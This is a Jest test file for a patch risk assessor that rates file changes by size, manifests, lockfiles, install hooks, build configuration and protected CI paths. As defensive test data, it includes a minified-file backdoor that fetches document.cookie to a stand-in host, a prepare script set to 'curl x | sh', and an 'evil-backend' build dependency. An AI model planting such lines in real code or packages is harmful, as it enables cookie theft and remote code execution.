import { describe, it, expect } from '@jest/globals'
import { readFileSync } from 'node:fs'
import { assessRisk } from '../src/patch/risk.js'
import { applyEdits } from '../src/patch/apply.js'
import type { FileChange } from '../src/types.js'

const fixture = (name: string): string =>
  readFileSync(new URL(`../__fixtures__/patch/${name}`, import.meta.url), 'utf8')
const change = (path: string, before: string, after: string): FileChange => ({
  path,
  before,
  after,
  created: false
})
const created = (path: string, after: string): FileChange => ({ path, before: '', after, created: true })
/** A change made the way the pipeline makes it: a model edit applied to real content. */
function edited(path: string, before: string, original: string, replacement: string): FileChange {
  const r = applyEdits(before, [{ file_path: path, original, replacement }])
  if (!r.ok) throw new Error(r.reason)
  return change(path, before, r.after)
}
const opts = { protectedPaths: [] as string[] }
const APP = fixture('app.py')
const PKG = fixture('package.json')
const PYPROJECT = fixture('pyproject.toml')

describe('assessRisk', () => {
  it('low: a few lines in source files only, with the reason', () => {
    const risk = assessRisk([edited('src/app.py', APP, 'timeout=10', 'timeout=30')], opts)
    expect(risk).toEqual({ level: 'low', reasons: ['2 changed lines in source files only'] })
  })

  it('medium: 10 or more changed lines in source files', () => {
    const many = Array.from({ length: 10 }, (_, i) => `x${i} = ${i}`).join('\n')
    const risk = assessRisk([edited('src/app.py', APP, 'import requests', `import requests\n${many}`)], opts)
    expect(risk.level).toBe('medium')
    expect(risk.reasons).toEqual(['10 changed lines (low risk needs fewer than 10)'])
  })

  it('not low: a one-line change of 40 KB in a minified file (size counts characters, not only lines)', () => {
    const minified = `!function(){${'var a=1;'.repeat(5000)}}();\n`
    const backdoored = minified.replace('var a=1;', 'fetch("https://x.invalid/"+document.cookie);var a=1;')
    const risk = assessRisk([change('src/vendor.min.js', minified, backdoored)], opts)
    expect(risk.level).toBe('high')
    // The old and the new line both count: the reviewer reads what goes and what comes.
    const size = minified.length + backdoored.length
    expect(risk.reasons).toContain(`${size} changed characters (too large to review; high from 20000)`)
    expect(risk.reasons.some(r => r.includes('changed lines in source files only'))).toBe(false)
  })

  it('medium: a few lines that change more than 1000 characters, or one line too long to read', () => {
    const long = `x = "${'a1b2'.repeat(300)}"`
    const risk = assessRisk([edited('src/app.py', APP, 'timeout=10', `timeout=10\n${long}`)], opts)
    expect(risk.level).toBe('medium')
    expect(risk.reasons).toEqual([
      expect.stringMatching(/^\d+ changed characters \(low risk needs fewer than 1000\)$/),
      expect.stringMatching(/^an added line of 120\d characters \(low risk needs lines of at most 500\)$/)
    ])
    const wide = `y = "${'z'.repeat(600)}"`
    const one = assessRisk([created('src/wide.py', `${wide}\n`)], opts)
    expect(one.reasons).toEqual(['an added line of 606 characters (low risk needs lines of at most 500)'])
    expect(one.level).toBe('medium')
  })

  it('medium: a dependency manifest (the seed example: requirements.txt gains pandas)', () => {
    const risk = assessRisk(
      [edited('requirements.txt', fixture('requirements.txt'), '', 'pandas==2.2.2')],
      opts
    )
    expect(risk).toEqual({ level: 'medium', reasons: ['requirements.txt: dependency manifest'] })
  })

  it.each([
    'requirements-dev.txt',
    'Pipfile',
    'Pipfile.lock',
    'poetry.lock',
    'go.mod',
    'go.sum',
    'Cargo.toml',
    'Cargo.lock',
    'Gemfile',
    'Gemfile.lock',
    'pom.xml',
    'build.gradle',
    'build.gradle.kts',
    'src/App/App.csproj',
    'packages.lock.json',
    'composer.json',
    'package-lock.json',
    'yarn.lock',
    'pnpm-lock.yaml'
  ])('medium: %s is a manifest or lockfile', path => {
    const risk = assessRisk([change(path, 'a\n', 'b\n')], opts)
    expect(risk.level).toBe('medium')
    expect(risk.reasons[0]).toMatch(
      new RegExp(`^${path.replace(/[.]/g, '\\.')}: (dependency manifest|lockfile)$`)
    )
  })

  it('medium: a non-source file, even a small one', () => {
    expect(assessRisk([change('README.md', '# a\n', '# b\n')], opts)).toEqual({
      level: 'medium',
      reasons: ['README.md: non-source file']
    })
  })

  it('high: .github/workflows/ci.yml, whatever the size', () => {
    const risk = assessRisk([change('.github/workflows/ci.yml', 'on: push\n', 'on: [push]\n')], opts)
    expect(risk.level).toBe('high')
    expect(risk.reasons).toEqual([
      '.github/workflows/ci.yml: protected path (under .github/ (workflows, actions and repository settings))'
    ])
  })

  it('high: a replacement adding a postinstall script to package.json', () => {
    const c = edited(
      'package.json',
      PKG,
      '"lint": "eslint ."',
      '"lint": "eslint .",\n    "postinstall": "node x.js"'
    )
    const risk = assessRisk([c], opts)
    expect(risk.level).toBe('high')
    expect(risk.reasons).toContain('package.json: install hook changed (postinstall)')
    expect(risk.reasons).toContain('package.json: dependency manifest')
  })

  it('high: an altered prepare script; medium: an altered test script', () => {
    const withPrepare = PKG.replace('"test": "jest",', '"test": "jest",\n    "prepare": "husky",')
    const altered = assessRisk(
      [change('package.json', withPrepare, withPrepare.replace('"husky"', '"curl x | sh"'))],
      opts
    )
    expect(altered.reasons).toContain('package.json: install hook changed (prepare)')
    const test = assessRisk([edited('package.json', PKG, '"test": "jest"', '"test": "jest --ci"')], opts)
    expect(test.level).toBe('medium')
    expect(test.reasons).toEqual([
      'package.json: scripts changed (test)',
      'package.json: dependency manifest'
    ])
  })

  it('medium only: a dependency bump in package.json', () => {
    const risk = assessRisk(
      [edited('package.json', PKG, '"express": "^4.19.2"', '"express": "^4.21.0"')],
      opts
    )
    expect(risk).toEqual({ level: 'medium', reasons: ['package.json: dependency manifest'] })
  })

  it('high: package.json that is not valid JSON after the edit', () => {
    const risk = assessRisk([edited('package.json', PKG, '"private": true,', '"private": true')], opts)
    expect(risk.reasons).toContain('package.json: not valid JSON, install scripts cannot be checked')
  })

  it('pyproject.toml: build-system change is high, a dependency change medium', () => {
    const build = assessRisk(
      [edited('pyproject.toml', PYPROJECT, '"wheel"]', '"wheel", "evil-backend"]')],
      opts
    )
    expect(build.level).toBe('high')
    expect(build.reasons).toContain('pyproject.toml: build configuration changed ([build-system])')
    const dep = assessRisk(
      [edited('pyproject.toml', PYPROJECT, '"requests>=2.31",', '"requests>=2.31",\n    "build>=1.0",')],
      opts
    )
    expect(dep).toEqual({ level: 'medium', reasons: ['pyproject.toml: dependency manifest'] })
  })

  it.each([
    ['setup.py', 'install or build'],
    ['binding.gyp', 'install or build'],
    ['Makefile', 'build script'],
    ['sub/Dockerfile', 'build script'],
    ['build.rs', 'build script'],
    ['scripts/ci.sh', 'executable script'],
    ['Jenkinsfile', 'protected path'],
    ['.gitlab-ci.yml', 'protected path'],
    ['.circleci/config.yml', 'protected path'],
    ['.npmrc', 'protected path']
  ])('high: %s (%s)', (path, why) => {
    const risk = assessRisk([change(path, 'a\n', 'b\n')], opts)
    expect(risk.level).toBe('high')
    expect(risk.reasons.join('\n')).toContain(why)
  })

  it('high: a file executable in the tree, and a protected-paths glob', () => {
    const tree = [{ path: 'tools/gen.py', mode: '100755' }]
    expect(assessRisk([change('tools/gen.py', 'a\n', 'b\n')], { protectedPaths: [], tree }).level).toBe(
      'high'
    )
    expect(assessRisk([change('tools/gen.py', 'a\n', 'b\n')], opts).level).toBe('low')
    const glob = assessRisk([change('src/db/schema.py', 'a\n', 'b\n')], { protectedPaths: ['src/db/**'] })
    expect(glob).toEqual({
      level: 'high',
      reasons: ['src/db/schema.py: protected path (matches protected-paths "src/db/**")']
    })
  })

  it('lists every reason and takes the highest level', () => {
    const risk = assessRisk(
      [
        edited('src/app.py', APP, 'timeout=10', 'timeout=30'),
        edited('requirements.txt', fixture('requirements.txt'), '', 'pandas==2.2.2'),
        change('.github/workflows/ci.yml', 'on: push\n', 'on: [push]\n')
      ],
      opts
    )
    expect(risk.level).toBe('high')
    expect(risk.reasons).toEqual([
      'requirements.txt: dependency manifest',
      '.github/workflows/ci.yml: protected path (under .github/ (workflows, actions and repository settings))'
    ])
  })

  it('one line replaced by 9 is 10 changed lines (medium), by 8 is 9 (low)', () => {
    const many = Array.from({ length: 9 }, (_, i) => `x${i} = ${i}`).join('\n')
    expect(assessRisk([edited('src/app.py', APP, 'import requests', many)], opts).level).toBe('medium')
    const eight = Array.from({ length: 8 }, (_, i) => `x${i} = ${i}`).join('\n')
    expect(assessRisk([edited('src/app.py', APP, 'import requests', eight)], opts).level).toBe('low')
  })

  it('a created source file counts its lines', () => {
    expect(assessRisk([created('tests/test_x.py', 'def test():\n    pass\n')], opts).level).toBe('low')
  })
})
